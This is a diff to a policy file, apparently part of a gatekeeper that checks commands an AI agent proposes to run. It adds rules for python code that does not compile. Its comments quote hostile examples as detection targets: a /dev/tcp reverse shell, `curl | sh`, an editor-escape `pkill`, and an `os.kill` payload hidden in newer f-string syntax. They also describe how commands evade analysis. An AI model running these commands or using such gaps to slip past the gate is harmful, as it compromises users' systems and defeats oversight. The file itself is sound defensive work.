@@ -1,10 +1,10 @@
-# What hides what would run. Five rules:
+# What hides what would run. Seven rules:
 #
 # - evasion.unanalysable (deny): the call could not be analysed at all (too large, nested too
 #   deeply, invalid encoding, a parse error) or carries no facts. Nothing is known about what
-#   runs, so bad input is never allowed. A shell parse error is in this list because bash runs a
-#   script line by line: the lines before and after a broken one may still run, and the parser's
-#   recovery is no proof of what bash makes of the rest.
+#   runs, so bad input is never allowed. A shell parse error is in this list because bash runs
+#   its input command by command: what comes before a broken line runs, in a terminal so does
+#   what comes after it, and the parser's recovery is no proof of what bash makes of the rest.
 # - evasion.opaque (ask): something runs that the text alone does not fix (`curl | sh`,
 #   `eval "$X"`, a program named by a variable or a glob, a file written then executed). Sourcing a
 #   virtualenv's activate script (data.gatekeeper.evasion.trusted_sources) is routine and exempt.
@@ -15,9 +15,12 @@
 #   argument of a program that may run it (`vim -c ':!pkill x'`). The violation keeps the
 #   finding's family: obfuscation does not change what the command would do.
 # - evasion.reverse_shell (deny): a shell wired to a network socket (`bash -i >& /dev/tcp/h/p`).
-#
-# Python code that does not compile (facts.syntax_errors) yields no violation: CPython compiles
-# the whole source before it runs any of it, so such code runs nothing.
+# - evasion.syntax_error (warn) and evasion.newer_syntax (ask): python code that does not compile
+#   for the analyser. CPython compiles the whole source before running any of it, so such code
+#   runs nothing, and agents write plenty of it (a recorded run tries ten broken one-liners): it is
+#   only recorded. But the interpreter that runs it may be newer than the analyser's and accept
+#   it: errors that a later grammar lifts (3.12 f-strings, `f"{os.kill(1, 9)}{"x"}"`;
+#   data.gatekeeper.evasion.newer_syntax_errors) are asked.
 package gatekeeper.evasion
 
 import data.gatekeeper.lib
@@ -75,6 +78,28 @@ trusted_source(o) if {
 	some pattern in lib.expand_all(data.gatekeeper.evasion.trusted_sources)
 	glob.match(pattern, ["/"], path)
 }
+
+violations contains lib.violation("evasion.syntax_error", message) if {
+	some e in lib.array_field(lib.facts, "syntax_errors")
+	not newer_syntax(e)
+	message := concat("", ["python code does not compile, so it runs nothing: ", error_text(e)])
+}
+
+violations contains lib.violation("evasion.newer_syntax", message) if {
+	some e in lib.array_field(lib.facts, "syntax_errors")
+	newer_syntax(e)
+	message := concat("", ["python code that does not compile here may run under a newer interpreter: ", error_text(e)])
+}
+
+newer_syntax(e) if {
+	is_string(e)
+	some fragment in data.gatekeeper.evasion.newer_syntax_errors
+	contains(e, fragment)
+}
+
+error_text(e) := lib.short(e) if {
+	is_string(e)
+} else := "(no detail)"
 
 # --- decoded payloads -----------------------------------------------------------------------
 
